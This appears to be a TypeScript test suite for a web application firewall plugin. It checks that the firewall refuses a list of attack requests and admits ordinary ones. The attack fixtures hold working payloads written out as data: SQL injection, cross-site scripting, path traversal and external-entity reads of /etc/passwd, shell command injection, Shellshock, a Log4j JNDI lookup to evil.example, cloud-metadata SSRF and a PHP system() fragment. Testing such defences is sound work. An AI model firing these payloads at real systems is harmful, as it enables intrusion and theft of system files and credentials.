import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { waf } from '#plugins/waf/guard'
import { loadRuleSet } from '#plugins/waf/rule-set'
import { inspectionInput, wafOptions } from './support.ts'

const options = wafOptions()
const inspect = waf({ ruleSet: loadRuleSet(options), options, clock: () => 0 })

const post = (type: string, body: string) =>
  inspectionInput(
    {
      method: 'POST',
      path: '/form',
      headers: [
        'user-agent',
        'Mozilla/5.0',
        'content-type',
        type,
        'content-length',
        String(body.length),
      ],
    },
    { bytes: Buffer.from(body), whole: true },
  )
const get = (path: string, query = '', headers: readonly string[] = []) =>
  inspectionInput({
    path,
    query,
    headers: ['user-agent', 'Mozilla/5.0', 'accept', '*/*', ...headers],
  })

const attacks: Record<string, Parameters<typeof inspect>[0]> = {
  'SQL injection in the query': get('/', "?id=1'%20OR%20'1'='1"),
  'SQL injection by UNION': get('/', '?id=1+UNION+ALL+SELECT+password+FROM+users'),
  'SQL injection that waits': get('/', '?id=1;+waitfor+delay+(1)'),
  'SQL injection in JSON': post('application/json', `{"user":{"name":"admin' OR 1=1--"}}`),
  'a script in an argument': get('/', '?q=%3Cscript%3Ealert(1)%3C/script%3E'),
  'an event handler': get('/', '?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E'),
  'a script URL hidden by entities': get('/', '?u=java%26%23115%3Bcript:alert(1)'),
  'a traversal': get('/', '?file=../../../etc/passwd'),
  'an encoded traversal': get('/', '?file=%252e%252e%252fsecret'),
  'a file of the system': get('/', '?file=/etc/shadow'),
  'a wrapper URL': get('/', '?page=php://filter/convert.base64-encode/resource=index'),
  'a command': get('/', '?host=example.com;cat%20/tmp/x'),
  'a command in back-ticks': post('application/x-www-form-urlencoded', 'a=`id`'),
  Shellshock: get('/', '', ['referer', '() { :;}; /bin/true']),
  'a Log4j look-up': get('/', '', ['x-api-version', '${jndi:ldap://evil.example/a}']),
  'a template': get('/', '?name=%7B%7B7*7%7D%7D'),
  'prototype pollution': post('application/json', '{"__proto__":{"admin":true}}'),
  'an external entity': post(
    'application/x-www-form-urlencoded',
    'xml=<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
  ),
  'a metadata service': get('/', '?url=http://169.254.169.254/latest/meta-data/'),
  'a private address': get('/', '?url=http://10.0.0.5:8080/admin'),
  'a private address as a number': get('/', '?url=http://2130706433/'),
  'a scanner': inspectionInput({ headers: ['user-agent', 'sqlmap/1.8'] }),
  'a NUL byte': get('/', '?a=b%00c'),
  'response splitting': get('/', '?a=x%0d%0aSet-Cookie:%20a=b'),
  'a script in a body of another type': post(
    'text/plain',
    '{"a":"\\u003cscript>alert(1)</script>"}',
  ),
  'SQL injection in JSON by another name': post('text/x-json', `{"a":"1' or '1'='1"}`),
  'SQL injection in JSON that is called a stream of bytes': post(
    'application/octet-stream',
    `{"a":"1' or '1'='1"}`,
  ),
  'a script in a body without a type': inspectionInput(
    { method: 'POST', headers: ['user-agent', 'a', 'content-length', '39'] },
    { bytes: Buffer.from('a=1&b=%3Cscript%3Ealert(1)%3C/script%3E'), whole: true },
  ),
  'a command far behind in a text': post('text/csv', `${'a,b\n'.repeat(20_000)};cat /etc/passwd`),
  'a form in EBCDIC': post('application/x-www-form-urlencoded; charset=ibm037', '\x81=\x4c'),
  'a part in base64': post(
    'multipart/form-data; boundary=b',
    '--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4=\r\n--b--\r\n',
  ),
  'an upload of PHP': post(
    'multipart/form-data; boundary=b',
    '--b\r\nContent-Disposition: form-data; name="a"; filename="x.php"\r\n\r\nx\r\n--b--\r\n',
  ),
  'SQL injection in an attribute': post('text/xml', `<a b="1' or '1'='1"/>`),
  'overlong UTF-8': get('/', '?q=%c0%bcscript%c0%be'),
  'a command in quotes': get('/', "?a=;c'a't$%7BIFS%7D/x"),
  'PHP code': get('/', '?a=%3C?php+system($_GET[0])'),
  'a backup file': get('/index.php.bak'),
  'a method that is not served': inspectionInput({ method: 'TRACE' }),
  'GET with a body': inspectionInput({ headers: ['user-agent', 'a', 'content-length', '5'] }),
  'many ranges': get('/', '', ['range', 'bytes=0-1,2-3,4-5,6-7,8-9,10-11']),
}

const harmless: Record<string, Parameters<typeof inspect>[0]> = {
  'a page': get('/shop/items', '?id=42&sort=price&q=blue+shoes'),
  'a name with an apostrophe': get('/', "?name=O'Brien&city=Coeur+d'Alene"),
  'a sentence': post(
    'application/json',
    JSON.stringify({ text: 'Please select a table from the union hall; drop me a line & call.' }),
  ),
  'an e-mail address': get('/', '?mail=anna.smith%2Bnews@example.com'),
  'a URL of another site': get('/', '?next=https://shop.example/cart?step=2'),
  'a date and a time': get('/', '?from=2026-01-02T03:04:05Z&to=2026-01-03'),
  'a token': get('/', '', ['cookie', 'session=eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln']),
  'a UUID': get('/orders/0b5a1a3e-8c3b-4d7e-9f10-1c2d3e4f5a6b'),
  'prices and signs': post(
    'application/x-www-form-urlencoded',
    'note=5+%3C+7+and+100%25+%24off%21',
  ),
  'an upload of JSON lines': post('application/json', '[{"a":1},{"b":[true,null,"x"]}]'),
  XML: post('application/xml', '<order><item id="1">Shoes &amp; socks</item></order>'),
  'a text': post('text/plain', 'Dear all,\n\nthe cat sat on the mat; 5 < 7 & so on.\n'),
  'a text that is long': post('text/csv', 'id,name,price\n1,Blue shoes,12.50\n'.repeat(3000)),
  'a picture': post('image/png', '\x89PNG\r\n\x1a\n<script>'),
  'a message of gRPC': post('application/grpc', '\0\0\0\0\x05\n\x03abc'),
  'JSON in UTF-8, which says so': post('application/json; charset=UTF-8', '{"a":"ü"}'),
  'a patch': post('application/merge-patch+json', '{"title":"x","tags":null}'),
  'an upload of a picture': post(
    'multipart/form-data; boundary=b',
    '--b\r\nContent-Disposition: form-data; name="a"; filename="x.png"\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: binary\r\n\r\nx\r\n--b--\r\n',
  ),
  'a range': get('/video.mp4', '', ['range', 'bytes=0-1023']),
}

suite('The base rules', () => {
  for (const [name, input] of Object.entries(attacks))
    test(`refuse ${name}`, async () => {
      const result = await inspect(input)
      assert.equal(result.ok ? 'admitted' : result.problem.tag, 'attack-suspected')
    })
  for (const [name, input] of Object.entries(harmless))
    test(`admit ${name}`, async () => {
      const result = await inspect(input)
      assert.ok(result.ok, JSON.stringify(result.ok || result.problem.cause))
      assert.deepEqual(result.value.record()?.rules, [])
    })
})
